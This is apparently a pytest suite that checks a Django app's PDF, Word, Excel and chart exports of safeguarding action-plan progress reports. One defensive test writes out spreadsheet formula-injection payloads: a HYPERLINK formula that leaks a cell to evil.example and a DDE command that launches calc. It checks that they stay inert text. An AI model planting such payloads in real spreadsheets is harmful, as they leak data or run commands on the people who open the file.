"""The report in each format, reopened and checked: PDF (pdftoppm, pdftotext), Word, Excel, charts."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from django.template.loader import render_to_string
from django.utils import timezone
from docx import Document
from docx.oxml.ns import qn
from lxml import etree as lxml_etree
from lxml import html as lxml_html
from openpyxl import load_workbook

from plans.tests import factories
from reports.charts import report_charts
from reports.figures import build_report
from reports.render.docx import PLAN_COLUMNS, render_docx
from reports.render.html import render_standalone, report_context
from reports.render.pdf import render_pdf
from reports.render.xlsx import render_xlsx

from .conftest import AS_AT, PREVIOUS


def in_order(phrase: str, text: str) -> bool:
    """The phrase's words appear in the text in this order (other columns may sit between)."""
    position = 0
    for word in phrase.split():
        position = text.find(word, position)
        if position < 0:
            return False
        position += len(word)
    return True


@pytest.fixture
def report(history_plan):
    return build_report(plan=history_plan.plan, as_at=AS_AT, previous=PREVIOUS)


def test_the_charts_are_svg_without_style_attributes_and_label_every_colour(report):
    charts = report_charts(report)
    assert [c.slug for c in charts] == ["sections", "mix", "burnup"]
    for chart in charts:
        assert chart.svg.startswith("<svg") and " style=" not in chart.svg
        assert chart.png()[:8] == b"\x89PNG\r\n\x1a\n"
    sections = charts[0].svg
    for label in ("Red", "Amber", "Green", "Complete"):
        assert f">{label}</text>" in sections
    assert "2 Identifying needs: 1 Red" in sections
    assert "Actions done" in charts[2].svg and "Actions due" in charts[2].svg


def test_the_standalone_html_shows_the_sector_layout_with_labelled_statuses(report):
    html = render_standalone(report)
    assert "Progress updates as at 14 December 2022" in html
    assert "What needs to improve:</strong> Quality and timeliness of police recording." in html
    for header in PLAN_COLUMNS:
        assert f'<th scope="col">{header}</th>' in html
    assert html.count("<thead>") == html.count("<table")  # header rows repeat on each page
    assert "thead { display: table-header-group; }" in html
    # The status is the cell's colour and its word, never the colour alone.
    assert '<td class="rag rag-red">Red</td>' in html
    assert '<td class="rag rag-blue">Complete</td>' in html
    assert '<th scope="col" class="rag rag-red">Red</th>' in html  # the summary's column headers
    assert "Constraint of 2.1" in html
    assert "http://" not in html.replace("http://www.w3.org/2000/svg", "")


@pytest.mark.skipif(not shutil.which("pdftoppm"), reason="poppler-utils is not installed")
def test_the_pdf_renders_to_pages_and_its_text_holds_the_report(report, tmp_path: Path):
    pdf = render_pdf(report)
    assert pdf.startswith(b"%PDF")
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    subprocess.run(
        ["pdftoppm", "-png", "-r", "40", str(path), str(tmp_path / "page")], check=True, timeout=60
    )
    pages = sorted(tmp_path.glob("page-*.png"))
    assert len(pages) >= 3
    assert all(p.read_bytes()[:4] == b"\x89PNG" for p in pages)
    text = subprocess.run(
        ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True, timeout=60
    ).stdout
    text = " ".join(text.split())  # table cells wrap: compare words, not lines
    assert "Progress updates as at 14 December 2022" in text
    assert "What changed since 14 November 2022" in text
    assert "Delayed or at risk" not in text  # the default scheme's words, not another plan's
    assert "Progress not on track" in text
    for ref in ("1.1a", "1.1b", "2.1", "2.2", "2.3", "2.4"):
        assert ref in text
    # pdftotext reads wrapped table cells line by line across columns: check the words in order.
    assert in_order("Audit completed; findings shared with the executive.", text)
    assert "Guidance published." not in text  # written after the as-at date
    assert re.search(r"Page 1 of \d+", text)


def test_the_word_document_has_real_tables_whose_header_rows_repeat(report):
    document = Document(io.BytesIO(render_docx(report)))
    plan_tables = [t for t in document.tables if [c.text for c in t.rows[0].cells] == PLAN_COLUMNS]
    assert len(plan_tables) == 2  # sections 1.1 and 2 hold actions
    for t in plan_tables:
        flags = t.rows[0]._tr.trPr.findall(qn("w:tblHeader"))
        assert [f.get(qn("w:val")) for f in flags] == ["true"]
    rows = {r.cells[0].text: r for t in plan_tables for r in t.rows[1:]}
    assert list(rows) == ["1.1a", "1.1b", "2.1", "2.2", "2.3", "2.4"]
    rag = rows["2.4"].cells[4]
    assert rag.text == "Red"
    assert rag._tc.tcPr.find(qn("w:shd")).get(qn("w:fill")) == "F4CDC6"
    assert rows["1.1a"].cells[4].text == "Complete"
    assert "Audit completed" in rows["1.1a"].cells[5].text
    assert len(document.inline_shapes) == 3  # the three charts, as PNG
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Progress updates as at 14 December 2022" in text
    assert "What needs to improve: Quality and timeliness of police recording." in text


def test_the_excel_workbook_has_one_filtered_row_per_action_and_a_summary(report):
    wb = load_workbook(io.BytesIO(render_xlsx(report)))
    assert wb.sheetnames == ["Summary", "Actions", "Over time", "Evidence"]
    actions = wb["Actions"]
    header = [c.value for c in actions[1]]
    assert header[:11] == [
        "Plan",
        "Section",
        "Ref",
        "Action",
        "Owner",
        "Lead agency",
        "Due by",
        "Due date",
        "RAG",
        "Last update",
        "Progress and impact",
    ]
    assert actions.auto_filter.ref == f"A1:O{actions.max_row}"
    assert actions.max_row == 7
    by_ref = {row[2].value: row for row in actions.iter_rows(min_row=2)}
    assert by_ref["2.4"][8].value == "Red" and by_ref["2.4"][8].fill.fgColor.rgb.endswith("F4CDC6")
    assert by_ref["1.1a"][8].value == "Complete" and by_ref["1.1a"][8].fill.fgColor.rgb.endswith("BBD4EA")
    assert by_ref["2.2"][13].value.startswith("Due dates moved")
    summary = {row[0].value: row[1].value for row in wb["Summary"].iter_rows() if row[0].value}
    assert summary["Actions"] == 6
    assert summary["Status worsened"] == 1 and summary["Exception: Red"] == 1
    status_cells = [row[0] for row in wb["Summary"].iter_rows() if row[0].value in ("Red", "Amber")]
    assert [(c.value, c.offset(column=1).value) for c in status_cells] == [("Red", 1), ("Amber", 3)]


def test_the_public_version_leaves_out_internal_fields_and_names(history_plan):
    report = build_report(
        plan=history_plan.plan, as_at=AS_AT, previous=PREVIOUS, public=True, roles_only=True
    )
    html = render_standalone(report)
    assert "Jane Smith" not in html and "Sussex Police, Head of Safeguarding" in html
    assert "Constraint of" not in html
    assert "What changed since" not in html
    wb = load_workbook(io.BytesIO(render_xlsx(report)))
    cells = [str(c.value) for row in wb["Actions"].iter_rows() for c in row if c.value]
    assert not any("Jane Smith" in c for c in cells)
    assert wb["Actions"].max_column == 11


def visible_text(markup: str) -> str:
    """The words in reading order, one space between text pieces (markup may differ)."""
    return " ".join(" ".join(lxml_html.fromstring(markup).itertext()).split())


@pytest.mark.parametrize("public", [False, True])
def test_the_pdf_markup_says_exactly_what_the_page_says(history_plan, evidence, public):
    """The PDF has its own lean markup (for speed); its words must be the page's words."""
    report = build_report(
        plan=history_plan.plan, as_at=AS_AT, previous=PREVIOUS, public=public, roles_only=public
    )
    context = report_context(report)
    page = visible_text(render_to_string("reports/_report_body.html", context))
    pdf = render_to_string("reports/pdf.html", context)
    body = pdf[pdf.index("<body>") : pdf.index("</body>") + len("</body>")]
    assert visible_text(body) == page
    assert "Audit report" in page or public


def test_word_cells_keep_line_breaks_and_drop_characters_xml_cannot_hold():
    from reports.render.docx import add_row, table

    document = Document()
    t = table(document, ["Owner", "Progress"])
    # Word's manual line break (U+000B) is a line break; NUL is left out.
    add_row(t, ["Jane Smith\nHead of Safeguarding", "Audit <done>\x0b& shared\x00"])
    out = io.BytesIO()
    document.save(out)
    reopened = Document(io.BytesIO(out.getvalue()))
    header, row = reopened.tables[0].rows
    assert [c.text for c in header.cells] == ["Owner", "Progress"]
    assert [c.text for c in row.cells] == ["Jane Smith\nHead of Safeguarding", "Audit <done>\n& shared"]
    assert header._tr.trPr.find(qn("w:tblHeader")) is not None
    assert row._tr.trPr.find(qn("w:cantSplit")) is not None


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils is not installed")
def test_every_word_of_the_pdf_stays_inside_the_page_margins_in_one_sans_serif_font(world, tmp_path: Path):
    """Long progress text wraps inside its column (the columns add up to the page width), and
    the page footers use the report's font, not the default serif."""
    factories.ProgressUpdateFactory(action=world.police_action, narrative="Audit of twenty cases. " * 20)
    factories.ProgressUpdateFactory(
        action=world.council_action, narrative="Training delivered to staff. " * 15
    )
    # a link with no place to break (a SharePoint address): it wraps, it is not cut at the edge
    linked = factories.ActionFactory(plan=world.plan, section=world.police_action.section, ref="1.9")
    factories.ProgressUpdateFactory(
        action=linked,
        narrative="Audit report at https://northshire.sharepoint.com/sites/SCP/Shared%20Documents/Forms/"
        "AllItems.aspx?id=%2Fsites%2FSCP%2FShared%20Documents%2FAudits%2F2026%2FStrategy%20meeting%20"
        "audit%20November%202026%2Epdf&parent=%2Fsites%2FSCP%2FShared%20Documents",
    )
    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(build_report(plan=world.plan)))
    boxes = subprocess.run(
        ["pdftotext", "-bbox", str(path), "-"], check=True, capture_output=True, text=True, timeout=60
    ).stdout
    tree = lxml_etree.fromstring(boxes.encode())
    ns = {"x": "http://www.w3.org/1999/xhtml"}
    margin = 12 / 25.4 * 72  # the @page side margin, 12 mm in points
    words = 0
    for page in tree.iterfind(".//x:page", ns):
        right = float(page.get("width")) - margin
        for word in page.iterfind("x:word", ns):
            words += 1
            assert float(word.get("xMax")) <= right + 1, word.text
    assert words > 200
    fonts = subprocess.run(["pdffonts", str(path)], check=True, capture_output=True, text=True).stdout
    names = [line.split()[0] for line in fonts.splitlines()[2:]]
    assert names and all("Liberation-Sans" in name for name in names), names


def test_text_starting_with_an_equals_sign_is_text_in_the_excel_workbook_never_a_formula(world):
    """Formula injection: a plan title, action or progress note written as a formula must reach
    Excel as the text itself (shown as written), not as a formula Excel would run."""
    world.plan.title = "=1+1"
    world.plan.save()
    world.police_action.text = '=HYPERLINK("http://evil.example/?leak="&A1,"Click to see the evidence")'
    world.police_action.save()
    factories.ProgressUpdateFactory(action=world.police_action, narrative="=cmd|' /C calc'!A0")
    wb = load_workbook(io.BytesIO(render_xlsx(build_report(plan=world.plan, as_at=timezone.localdate()))))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert "=1+1" in values
    assert world.police_action.text in values


def test_control_characters_pasted_from_word_do_not_stop_the_excel_or_word_board_pack(world):
    """Word's manual line break (U+000B) and other control characters reach progress updates,
    titles and sections from pasted text or the API; XML cannot hold them, and one of them used to
    stop the whole workbook being written (a 500 for the board)."""
    world.plan.title = "Plan\x01 title"
    world.plan.save()
    world.police_action.text = "Met the team.\x0bNew line from Word\x1b"
    world.police_action.save()
    factories.ProgressUpdateFactory(action=world.police_action, narrative="Audit\x0bdone\x08")
    report = build_report(plan=world.plan, as_at=timezone.localdate())
    wb = load_workbook(io.BytesIO(render_xlsx(report)))
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    assert "Met the team.\nNew line from Word" in values
    assert "Plan title" in values
    words = "\n".join(p.text for p in Document(io.BytesIO(render_docx(report))).paragraphs)
    assert "Plan title" in words


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils is not installed")
def test_no_action_row_of_the_pdf_is_split_across_two_pages(world, tmp_path: Path):
    """A row split at a page break puts an action's progress on one page and its words and owner
    on the next; the board reads each row whole."""
    section = factories.SectionFactory(plan=world.plan, ref="9", title="Long section", order=9)
    for n in range(30):
        action = factories.ActionFactory(
            plan=world.plan, section=section, ref=f"9.{n + 1}", text=f"Firstword{n} of a long action. " * 4
        )
        factories.ProgressUpdateFactory(action=action, narrative="Progress was made. " * 12 + f"Lastword{n}.")
    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(build_report(plan=world.plan), workers=1))
    text = subprocess.run(
        ["pdftotext", str(path), "-"], check=True, capture_output=True, text=True, timeout=60
    ).stdout
    pages = text.split("\f")
    for n in range(30):
        # The summary lists earlier in the pack name actions too: the plan table is the last.
        first = max(i for i, page in enumerate(pages) if f"Firstword{n} " in page)
        last = max(i for i, page in enumerate(pages) if f"Lastword{n}." in page)
        assert first == last, (n, first, last)


def test_the_word_pack_has_a_title_described_charts_and_no_skipped_heading_level(report):
    """Word's accessibility checker: pictures need a description, headings must not jump from
    level 1 to level 3, and the document needs a title."""
    document = Document(io.BytesIO(render_docx(report)))
    assert document.core_properties.title == report.title
    pictures = document.inline_shapes
    assert len(pictures) == 3
    for picture in pictures:
        description = picture._inline.docPr.get("descr")
        assert description and "its figures are in the table" in description
    levels = [
        0 if p.style.name == "Title" else int(p.style.name.split()[-1])
        for p in document.paragraphs
        if p.style.name == "Title" or p.style.name.startswith("Heading")
    ]
    assert levels[0] == 0
    for before, after in zip(levels, levels[1:], strict=False):
        assert after <= before + 1, levels


@pytest.mark.skipif(
    not shutil.which("pdffonts") or not shutil.which("fc-list"), reason="poppler-utils or fontconfig missing"
)
def test_emoji_in_progress_text_print_in_the_pdf_with_an_emoji_font_not_as_empty_boxes(world, tmp_path: Path):
    """Owners paste ✅ and 🟢 from Teams; the importer reads emoji statuses: the pack prints them."""
    installed = subprocess.run(["fc-list", ":family=Noto Color Emoji"], capture_output=True, text=True).stdout
    assert installed.strip(), "make system-packages installs fonts-noto-color-emoji"
    factories.ProgressUpdateFactory(action=world.police_action, narrative="Audit done ✅ 👍🏽 – rated 🟢.")
    path = tmp_path / "report.pdf"
    path.write_bytes(render_pdf(build_report(plan=world.plan), workers=1))
    fonts = subprocess.run(["pdffonts", str(path)], check=True, capture_output=True, text=True).stdout
    assert "Noto-Color-Emoji" in fonts
